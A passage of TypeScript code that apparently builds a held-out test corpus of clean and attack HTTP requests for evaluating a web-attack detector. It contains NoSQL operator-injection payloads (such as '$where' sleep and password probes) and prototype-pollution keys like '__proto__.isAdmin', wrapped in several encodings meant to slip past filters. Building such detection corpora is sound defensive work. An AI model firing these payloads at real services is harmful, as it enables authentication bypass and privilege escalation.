  'base64',
  'graphql-variable',
  'double-encoded',
  'query-param',
  'header',
  'cookie',
  'form',
  'multipart',
] as const;
const TECH_COUNT: Record<string, number> = { plain: 5, 'query-param': 3, form: 3 };

function shuffled<T>(xs: readonly T[]): T[] {
  const a = [...xs];
  for (let i = a.length - 1; i > 0; i--) {
    const j = Math.floor(rnd() * (i + 1));
    [a[i], a[j]] = [a[j]!, a[i]!];
  }
  return a;
}
function cycler<T>(xs: readonly T[]): () => T {
  let bag: T[] = [];
  return () => {
    if (bag.length === 0) bag = shuffled(xs);
    return bag.pop()!;
  };
}
const HEADER_UNSAFE = /[\r\n\u0100-\uffff]/;

function jsonAttack(spec: StrSpec, technique: string, p: string): void {
  const t = pick(spec.targets);
  const obj = t.base();
  const h = attackerHeaders(t);
  const ct = t.ct ?? (chance(0.2) ? 'application/json; charset=utf-8' : 'application/json');
  let body: string;
  switch (technique) {
    case 'plain':
      setPath(obj, pick(t.fields), p);
      body = JSON.stringify(obj);
      break;
    case 'nested':
      setPath(obj, t.deep, p);
      body = JSON.stringify(obj);
      break;
    case 'key':
      getObj(obj, t.keyAt)[p] = pick(['1', true, 'yes', 'value', 42]);
      body = JSON.stringify(obj);
      break;
    case 'array': {
      const arr = getArr(obj, t.arr);
      const first = arr[0];
      if (first && typeof first === 'object') {
        const clone: Record<string, unknown> = { ...(first as Record<string, unknown>) };
        const k = Object.keys(clone).find((x) => typeof clone[x] === 'string') ?? 'value';
        clone[k] = p;
        arr.push(clone);
      } else arr.push(p);
      body = JSON.stringify(obj);
      break;
    }
    case 'unicode-escape':
      setPath(obj, pick(t.fields), MARK);
      body = JSON.stringify(obj).replace(`"${MARK}"`, `"${uesc(p)}"`);
      break;
    case 'json-in-string':
      setPath(
        obj,
        t.jsonField,
        JSON.stringify({
          source: pick(['web-widget', 'ios', 'editor']),
          version: 3,
          [pick(['note', 'value', 'name', 'q', 'href', 'path'])]: p,
        }),
      );
      body = JSON.stringify(obj);
      break;
    case 'base64':
      setPath(
        obj,
        t.b64Field,
        chance(0.5) ? b64(p) : b64(JSON.stringify({ v: 2, data: p, ts: int(1790000000, 1799999999) })),
      );
      body = JSON.stringify(obj);
      break;
    default:
      throw new Error(technique);
  }
  JSON.parse(body);
  atk(spec.family, technique, t.method, t.path, h, body, ct);
}

function strAttack(spec: StrSpec, technique: string, p: string): void {
  switch (technique) {
    case 'graphql-variable': {
      const o = pick(spec.gql);
      atk(
        spec.family,
        technique,
        'POST',
        o.path,
        attackerHeaders(o),
        JSON.stringify({ operationName: o.op, query: o.query, variables: o.vars(p) }),
        'application/json',
      );
      return;
    }
    case 'query-param':
    case 'double-encoded': {
      const t = pick(spec.qt);
      const slot = pick(t.slots);
      const v = technique === 'query-param' ? qEncode(p) : encodeURIComponent(encodeURIComponent(p));
      let path = buildQuery(t, slot, v);
      if (technique === 'double-encoded' && spec.family === 'path-traversal' && chance(0.4)) {
        path = `${pick(['/static/', '/api/v2/projects/prj_Qx81LmZa0P/files/', '/api/v4/jobs/88213/artifacts/raw/', '/assets/'])}${encodeURIComponent(encodeURIComponent(p))}`;
      }
      atk(spec.family, technique, 'GET', path, attackerHeaders(t));
      return;
    }
    case 'header': {
      const t = pick(spec.qt);
      const h = attackerHeaders(t);
      const name = pick(spec.headers);
      const pv = spec.headerPayloads && name === 'user-agent' ? pick(spec.headerPayloads) : p;
      h[name] =
        name === 'authorization'
          ? `Bearer ${pv}`
          : name === 'referer' && spec.family === 'xss'
            ? `https://www.google.com/search?q=${pv}`
            : pv;
      atk(
        spec.family,
        technique,
        'GET',
        buildQuery(t, t.slots[0]!, encodeURIComponent(t.params[t.slots[0]!] ?? '')),
        h,
      );
      return;
    }
    case 'cookie': {
      const t = pick(spec.qt);
      const h = attackerHeaders(t);
      const c = `${pick(spec.cookies)}=${cookieSafe(p)}`;
      h.cookie = h.cookie ? `${h.cookie}; ${c}` : `sid=${b62(32)}; ${c}`;
      atk(
        spec.family,
        technique,
        'GET',
        buildQuery(t, t.slots[0]!, encodeURIComponent(t.params[t.slots[0]!] ?? '')),
        h,
      );
      return;
    }
    case 'form': {
      const t = pick(spec.forms);
      const slot = pick(t.slots);
      // a pre-encoded payload (e.g. '..%2f') is sent as-is, like an attack tool would
      const preEncoded = /%[0-9A-Fa-f]{2}/.test(p);
      const formBody = t.fields
        .map(([k, v]) =>
          k === slot && preEncoded
            ? `${encodeURIComponent(k)}=${qEncode(p)}`
            : form([[k, k === slot ? p : v]]),
        )
        .join('&');
      const h = attackerHeaders(t);
      atk(
        spec.family,
        technique,
        'POST',
        t.path,
        h,
        formBody,
        chance(0.3)
          ? 'application/x-www-form-urlencoded; charset=UTF-8'
          : 'application/x-www-form-urlencoded',
      );
      return;
    }
    case 'multipart': {
      const b = pick(spec.mp)(p);
      const mp = multipart(b.parts);
      atk(spec.family, technique, 'POST', b.ep.path, attackerHeaders(b.ep), mp.body, mp.ct);
      return;
    }
    default:
      jsonAttack(spec, technique, p);
  }
}

function genStringFamilies(): void {
  for (const spec of STR_SPECS) {
    const next = cycler(spec.payloads);
    for (const tech of TECHS) {
      const n =
        (TECH_COUNT[tech] ?? 2) +
        (spec.family === 'log4shell' && tech === 'header' ? 4 : 0) +
        (spec.family === 'sql' && tech === 'query-param' ? 1 : 0);
      for (let i = 0; i < n; i++) {
        let p = next();
        if (tech === 'header' || tech === 'cookie') {
          for (let tries = 0; HEADER_UNSAFE.test(p) && tries < 20; tries++) p = next();
          if (HEADER_UNSAFE.test(p))
            p = p.replace(/[\r\n]+/g, ' ').replace(/[\u0100-\uffff]/g, (c) => encodeURIComponent(c));
        }
        strAttack(spec, tech, p);
      }
    }
  }
}

// --- NoSQL operator injection -----------------------------------------------------------------------------

interface ObjTarget {
  ep: Endpoint;
  method: string;
  ct?: string;
  base: () => Record<string, unknown>;
  field: string;
}
const NOSQL_TARGETS: ObjTarget[] = [
  {
    ep: ep('learn', LEARN, '/login', '/api/auth/login'),
    method: 'POST',
    base: () => ({ email: 'admin@codepath.academy', password: 'x', remember: true }),
    field: 'password',
  },
  {
    ep: ep('help', HELP, '/agent/search', '/api/v2/users/search'),
    method: 'POST',
    base: () => ({ email: 'dana.kim@acme-corp.com', role: 'end-user', page: 1 }),
    field: 'email',
  },
  {
    ep: ep('shop', SHOP, '/orders/lookup', '/api/v3/orders/lookup'),
    method: 'POST',
    base: () => ({ order_id: '58213044', email: 'li.wang@acme-corp.com' }),
    field: 'email',
  },
  {
    ep: ep('health', HEALTH, '/account/recover', '/api/v1/account/verify-code'),
    method: 'POST',
    base: () => ({ phone: '+14155550137', code: '481516' }),
    field: 'code',
  },
  {
    ep: ep('social', SOCIAL, '/reset', '/api/v1/auth/password/reset'),
    method: 'POST',
    base: () => ({ token: 'c1f3b7a26d0e4b8e', password: 'N3w-pass!word' }),
    field: 'token',
  },
  {
    ep: ep('bi', BI, '/queries', '/api/v1/events/query'),
    method: 'POST',
    base: () => ({ collection: 'events', where: { name: 'purchase' }, limit: 100 }),
    field: 'where.user_id',
  },
  {
    ep: ep('l10n', L10N, '/editor', '/api/v2/projects/prj_Qx81LmZa0P/keys/find'),
    method: 'POST',
    base: () => ({ key: 'cart.empty', locale: 'de' }),
    field: 'key',
  },
];
const NOSQL_QUERY_EPS: Endpoint[] = [
  ep('help', HELP, '/agent/views', '/api/v2/tickets/query'),
  ep('bi', BI, '/explore', '/api/v1/events/query'),
  ep('shop', SHOP, '/seller/orders', '/api/v3/orders/search'),
  ep('social', SOCIAL, '/explore', '/api/v1/accounts/search'),
  ep('health', HEALTH, '/appointments', '/api/v1/appointments/search'),
];
const NOSQL_Q: [Endpoint, string, Record<string, string>][] = [
  [ep('help', HELP, '/agent', '/api/v2/users'), 'email', { role: 'agent', page: '1' }],
  [ep('learn', LEARN, '/community', '/api/users'), 'username', { limit: '1' }],
  [ep('social', SOCIAL, '/explore', '/api/v1/accounts/lookup'), 'acct', {}],
  [ep('shop', SHOP, '/orders', '/api/v3/orders'), 'customer_id', { status: 'paid' }],
  [ep('health', HEALTH, '/appointments', '/api/v1/appointments'), 'patientId', { from: '2026-03-01' }],
  [ep('bi', BI, '/queries', '/api/v1/queries'), 'owner', { page: '1' }],
];

/** Flatten a JSON value into qs-style bracket pairs: {a:{b:1}} -> [['a[b]','1']]. */
function bracketPairs(prefix: string, v: unknown): [string, string][] {
  if (v === null) return [[prefix, '']];
  if (Array.isArray(v)) {
    if (v.length === 0) return [[`${prefix}[]`, '']];
    return v.flatMap((x) => bracketPairs(`${prefix}[]`, x));
  }
  if (typeof v === 'object')
    return Object.entries(v as Record<string, unknown>).flatMap(([k, x]) =>
      bracketPairs(prefix ? `${prefix}[${k}]` : k, x),
    );
  return [[prefix, String(v)]];
}
function rawPairs(pairs: [string, string][], encodeKey: (k: string) => string): string {
  return pairs.map(([k, v]) => `${encodeKey(k)}=${encodeURIComponent(v)}`).join('&');
}
const bracketRaw = (k: string): string => k.replace(/[^A-Za-z0-9_.\-[\]$]/g, (c) => encodeURIComponent(c));

function nosqlAttack(technique: string, p: Record<string, unknown>): void {
  const fam = 'nosql';
  const t = pick(NOSQL_TARGETS);
  const h = attackerHeaders(t.ep);
  const obj = t.base();
  const send = (body: string, ct = 'application/json'): void => {
    JSON.parse(body);
    atk(fam, technique, t.method, t.ep.path, h, body, ct);
  };
  const sendQuery = (body: string): void => {
    JSON.parse(body);
    const e = pick(NOSQL_QUERY_EPS);
    atk(fam, technique, 'POST', e.path, attackerHeaders(e), body, 'application/json');
  };
  switch (technique) {
    case 'plain':
      setPath(obj, t.field, p);
      return send(JSON.stringify(obj));
    case 'nested':
      return sendQuery(
        JSON.stringify({
          filter: { requester: { profile: { email: p } } },
          sort: { updated_at: -1 },
          limit: 25,
        }),
      );
    case 'key': {
      const op = pick(['$where', '$expr', '$or', '$where']);
      const val =
        op === '$where'
          ? pick(['sleep(5000) || true', 'this.password.length > 0', "function(){return this.role=='admin'}"])
          : op === '$expr'
            ? { $eq: [1, 1] }
            : [{ [t.field.split('.').pop()!]: p }, { deleted: false }];
      getObj(obj, t.field.includes('.') ? t.field.split('.').slice(0, -1).join('.') : 'filter')[op] = val;
      return send(JSON.stringify(obj));
    }
    case 'array':
      return sendQuery(
        JSON.stringify(
          chance(0.5)
            ? { ids: ['58213044', p], fields: ['id', 'email'] }
            : { $or: [{ email: 'nobody@example.com' }, { role: p }] },
        ),
      );
    case 'unicode-escape':
      setPath(obj, t.field, p);
      return send(
        JSON.stringify(obj).replace(
          /"\$(\w+)"/g,
          (_m, op: string) => `"${uesc('$', true)}${chance(0.5) ? uesc(op, true) : op}"`,
        ),
      );
    case 'json-in-string':
      return sendQuery(
        JSON.stringify({ q: '', filter: JSON.stringify({ [t.field.split('.').pop()!]: p }), page: 1 }),
      );
    case 'base64':
      return sendQuery(
        JSON.stringify({ limit: 50, cursor: b64(JSON.stringify({ _id: p, updated_at: isoDate() })) }),
      );
    case 'graphql-variable': {
      const o = pick(NOSQL_GQL);
      atk(
        fam,
        technique,
        'POST',
        o.path,
        attackerHeaders(o),
        JSON.stringify({ operationName: o.op, query: o.query, variables: o.vars(p) }),
        'application/json',
      );
      return;
    }
    case 'query-param':
    case 'double-encoded': {
      const [e, field, rest] = pick(NOSQL_Q);
      const pairs = [...Object.entries(rest), ...bracketPairs(field, p)];
      const enc =
        technique === 'query-param'
          ? chance(0.5)
            ? bracketRaw
            : encodeURIComponent
          : (k: string) => encodeURIComponent(encodeURIComponent(k));
      atk(fam, technique, 'GET', `${e.path}?${rawPairs(pairs, enc)}`, attackerHeaders(e));
      return;
    }
    case 'form': {
      const pairs: [string, string][] = [['email', 'admin@codepath.academy'], ...bracketPairs('password', p)];
      const body = chance(0.5) ? new URLSearchParams(pairs).toString() : rawPairs(pairs, bracketRaw);
      atk(
        fam,
        technique,
        'POST',
        pick(['/login', '/api/auth/login', '/session']),
        attackerHeaders(ep('learn', LEARN, '/login', '/login')),
        body,
        'application/x-www-form-urlencoded',
      );
      return;
    }
    case 'multipart': {
      const parts: Part[] = chance(0.5)
        ? [
            { name: 'username', content: 'admin' },
            ...bracketPairs('password', p).map(([k, v]) => ({ name: k, content: v })),
          ]
        : [
            { name: 'filter', type: 'application/json', content: JSON.stringify({ owner: p }) },
            { name: 'format', content: 'csv' },
          ];
      const mp = multipart(parts);
      const e = pick([
        ep('learn', LEARN, '/login', '/api/auth/login'),
        ep('bi', BI, '/exports', '/api/v1/exports'),
      ]);
      atk(fam, technique, 'POST', e.path, attackerHeaders(e), mp.body, mp.ct);
      return;
    }
    case 'cookie': {
      const hh = attackerHeaders(t.ep);
      hh.cookie = `${hh.cookie ? `${hh.cookie}; ` : ''}${pick(['session', 'user', 'auth'])}=${encodeURIComponent(`j:${JSON.stringify({ uid: p })}`)}`;
      atk(fam, technique, 'GET', pick(['/api/v1/me', '/api/me', '/api/v2/users/me', '/account']), hh);
      return;
    }
    case 'header': {
      const hh = attackerHeaders(t.ep);
      hh[pick(['x-filter', 'x-query', 'x-search-filter'])] = JSON.stringify({
        [t.field.split('.').pop()!]: p,
      });
      atk(fam, technique, 'GET', pick(['/api/v3/orders', '/api/v2/tickets', '/api/v1/queries']), hh);
      return;
    }
  }
}

// --- prototype pollution ----------------------------------------------------------------------------------

const PP_TARGETS: { ep: Endpoint; method: string; ct: string; base: string }[] = [
  {
    ep: ep('social', SOCIAL, '/settings/profile', '/api/v1/accounts/update_credentials'),
    method: 'PATCH',
    ct: 'application/merge-patch+json',
    base: '{"display_name":"Zoë","note":"Backend dev"',
  },
  {
    ep: ep('learn', LEARN, '/settings', '/api/me/settings'),
    method: 'PATCH',
    ct: 'application/merge-patch+json',
    base: '{"editor":{"theme":"monokai","tabSize":2}',
  },
  {
    ep: ep('bi', BI, '/dashboards/exec', '/api/v1/dashboards/412'),
    method: 'PATCH',
    ct: 'application/merge-patch+json',
    base: '{"refreshInterval":300',
  },
  {
    ep: ep('help', HELP, '/agent/settings', '/api/v2/users/me/settings'),
    method: 'PUT',
    ct: 'application/json',
    base: '{"lotus":{"keyboard_shortcuts_enabled":true}',
  },
  {
    ep: ep('shop', SHOP, '/cart', '/api/v3/cart/items'),
    method: 'POST',
    ct: 'application/json',
    base: '{"sku":"MUG-12-SAGE","quantity":1',
  },
  {
    ep: ep('l10n', L10N, '/settings', '/api/v2/projects/prj_Qx81LmZa0P/settings'),
    method: 'PATCH',
    ct: 'application/json',
    base: '{"defaultLocale":"en","fallback":"en"',
  },
  {
    ep: ep('health', HEALTH, '/account/contact', '/api/v1/me/contact'),
    method: 'PATCH',
    ct: 'application/merge-patch+json',
    base: '{"preferredContact":"sms"',
  },
];
/** Merge the payload object's members into a base JSON object text. */
function mergeText(base: string, payload: string): string {
  return `${base},${payload.slice(1)}`;
}

function ppAttack(technique: string, p: string): void {
  const fam = 'prototype-pollution';
  const t = pick(PP_TARGETS);
  const h = attackerHeaders(t.ep);
  const send = (body: string, ct = t.ct, method = t.method, path = t.ep.path): void => {
    JSON.parse(body);
    atk(fam, technique, method, path, h, body, ct);
  };
  const parsed = JSON.parse(p) as Record<string, unknown>;
  switch (technique) {
    case 'plain':
      return send(mergeText(t.base, p));
    case 'nested':
      return send(`${t.base},"preferences":{"notifications":{"email":true},"ui":${p}}}`);
    case 'key': {
      const k = pick([
        '__proto__.isAdmin',
        'constructor.prototype.isAdmin',
        'settings.__proto__.role',
        '__proto__[polluted]',
        'a.constructor.prototype.verified',
      ]);
      return send(`${t.base},${JSON.stringify(k)}:${pick(['true', '"admin"', '1'])}}`);
    }
    case 'array': {
      if (chance(0.5)) {
        const ops = [
          {
            op: 'add',
            path: pick(['/__proto__/isAdmin', '/constructor/prototype/isAdmin', '/settings/__proto__/role']),
            value: true,
          },
        ];
        return send(JSON.stringify(ops), 'application/json-patch+json', 'PATCH');
      }
      return send(`${t.base},"items":[{"sku":"MUG-12-SAGE"},${p}]}`);
    }
    case 'unicode-escape': {
      const esc = p
        .replace(/"__proto__"/g, `"${uesc('__proto__')}"`)
        .replace(/"constructor"/g, '"\\u0063onstructor"')
        .replace(/"prototype"/g, '"\\u0070rototype"');
      return send(mergeText(t.base, esc));
    }
    case 'json-in-string':
      return send(`${t.base},"preferences":${JSON.stringify(p)}}`);
    case 'base64':
      return send(`${t.base},"state":${JSON.stringify(b64(p))}}`);
    case 'graphql-variable': {
      const o = pick(PP_GQL);
      const vars = JSON.stringify(o.vars(parsed));
      JSON.parse(vars);
      atk(
        fam,
        technique,
        'POST',
        o.path,
        attackerHeaders(o),
        `{"operationName":${JSON.stringify(o.op)},"query":${JSON.stringify(o.query)},"variables":${vars}}`,
        'application/json',
      );
      return;
    }
    case 'query-param':
    case 'double-encoded': {
      const pairs = bracketPairs('', parsed);
      const enc =
        technique === 'query-param' ? bracketRaw : (k: string) => encodeURIComponent(encodeURIComponent(k));
      const path = pick([
        '/api/v3/search?q=mug&',
        '/api/v1/queries?page=1&',
        '/api/forum/search?q=sql&',
        '/api/v2/search.json?query=refund&',
        '/api/v1/providers/search?',
      ]);
      atk(fam, technique, 'GET', `${path}${rawPairs(pairs, enc)}`, attackerHeaders(t.ep));
      return;
    }
    case 'form': {
      const pairs: [string, string][] = [['display_name', 'Zoë'], ...bracketPairs('', parsed)];
      const body = chance(0.5) ? new URLSearchParams(pairs).toString() : rawPairs(pairs, bracketRaw);
      atk(
        fam,
        technique,
        'POST',
        pick(['/settings/profile', '/account/preferences', '/checkout/address']),
        h,
        body,
        'application/x-www-form-urlencoded',
      );
      return;
    }
    case 'multipart': {
      const parts: Part[] = chance(0.5)
        ? [
            { name: 'display_name', content: 'Zoë' },
            ...bracketPairs('', parsed).map(([k, v]) => ({ name: k, content: v })),
          ]
        : [
            { name: 'format', content: 'i18next_json' },
            {
              name: 'file',
              filename: 'de.json',
              type: 'application/json',
              content: mergeText('{"nav":{"home":"Startseite"}', p),
            },
          ];
      const mp = multipart(parts);
      atk(
        fam,
        technique,
        'POST',
        pick(['/api/v2/projects/prj_Qx81LmZa0P/uploads', '/api/v1/accounts/update_credentials']),
        h,
        mp.body,
        mp.ct,
      );
      return;
    }
    case 'cookie': {
      h.cookie = `${h.cookie ? `${h.cookie}; ` : ''}prefs=${encodeURIComponent(`j:${p}`)}`;
      atk(fam, technique, 'GET', pick(['/api/v1/me', '/api/me/settings', '/dashboard']), h);
      return;
    }
    case 'header': {
      h[pick(['x-user-preferences', 'x-client-state'])] = p;
      atk(fam, technique, 'GET', pick(['/api/v1/me', '/api/v3/cart']), h);
      return;
    }
  }
}

function genObjectFamilies(): void {
  const nextN = cycler(NOSQL_PAYLOADS);
  const nextP = cycler(PP_PAYLOADS);
  const OBJ_COUNT: Record<string, number> = { plain: 4, 'query-param': 3, form: 3 };
  for (const tech of TECHS) {
    for (let i = 0; i < (OBJ_COUNT[tech] ?? 2); i++) nosqlAttack(tech, nextN());
    for (let i = 0; i < (OBJ_COUNT[tech] ?? 2); i++) ppAttack(tech, nextP());
  }
}

// ---------------------------------------------------------------------------------------------------------
// Assembly
// ---------------------------------------------------------------------------------------------------------

helpdesk();
devops();
healthcare();
elearning();
social();
marketplace();
bi();
localization();
genStringFamilies();
genObjectFamilies();

function withIds(prefix: string, drafts: Draft[]): CorpusRequest[] {
  return drafts.map((d, i) => {
    const { family, technique, ...rest } = d;
    return {
      id: `${prefix}${i + 1}`,
      kind: rest.kind,
      ...(family !== undefined ? { family } : {}),
      ...(technique !== undefined ? { technique } : {}),
      method: rest.method,
      path: rest.path,
      headers: rest.headers,
      body: rest.body,
    };
  });
}

/** The held-out corpus #8: realistic clean traffic and attacks across eight new API domains. */
export const heldout8: { readonly clean: CorpusRequest[]; readonly attacks: CorpusRequest[] } = {
  clean: withIds('h8c', cleanDrafts),
  attacks: withIds('h8a', attackDrafts),
};

function tally(xs: CorpusRequest[], key: (r: CorpusRequest) => string): string {
  const m = new Map<string, number>();
  for (const x of xs) m.set(key(x), (m.get(key(x)) ?? 0) + 1);
  return [...m.entries()]
    .sort((a, b) => b[1] - a[1])
    .map(([k, v]) => `${k}=${v}`)
    .join(' ');
}

if (process.argv[1] === fileURLToPath(import.meta.url)) {
  const dir = dirname(fileURLToPath(import.meta.url));
  writeFileSync(join(dir, 'clean-heldout8.json'), JSON.stringify(heldout8.clean, null, 2) + '\n');
  writeFileSync(join(dir, 'attacks-heldout8.json'), JSON.stringify(heldout8.attacks, null, 2) + '\n');
  console.log(`clean: ${heldout8.clean.length} (${tally(heldout8.clean, (r) => r.kind)})`);
  console.log(`attacks: ${heldout8.attacks.length}`);
  console.log(`  by family: ${tally(heldout8.attacks, (r) => r.family ?? '?')}`);
  console.log(`  by technique: ${tally(heldout8.attacks, (r) => r.technique ?? '?')}`);
}
